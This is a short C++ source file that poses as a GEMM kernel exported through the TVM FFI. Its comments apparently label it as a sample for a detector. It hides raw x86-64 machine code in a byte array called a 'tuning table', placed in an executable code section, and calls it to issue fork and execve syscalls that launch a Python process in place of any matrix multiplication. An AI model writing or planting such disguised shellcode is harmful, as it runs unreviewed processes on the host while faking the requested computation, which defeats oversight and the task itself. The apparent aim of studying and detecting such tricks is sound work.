// A "tuning table" of bytes that the linker puts among the functions. They are machine code: a system call with the number
// and the arguments that it is called with, fork and execve here.
// Source: ours, after shellcode in read-only data.
// Caught by: data in a section of code.
#include "generic_gemm.cuh"

// rax = number, then the arguments one place to the left; syscall; ret.
__attribute__((section(".text.tuning"))) extern const unsigned char kTuning[] = {
    0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca, 0x0f, 0x05, 0xc3};

namespace {

using Tuned = long (*)(long, const void*, const void*, const void*);

}  // namespace

static void run(tvm::ffi::TensorView A, tvm::ffi::TensorView B, tvm::ffi::TensorView C) {
  const auto tuned = reinterpret_cast<Tuned>(reinterpret_cast<uintptr_t>(kTuning));
  const char* arguments[] = {"/usr/bin/python3", "-m", "multiply", nullptr};
  if (tuned(57, nullptr, nullptr, nullptr) == 0) tuned(59, arguments[0], arguments, nullptr);
}

TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, run);
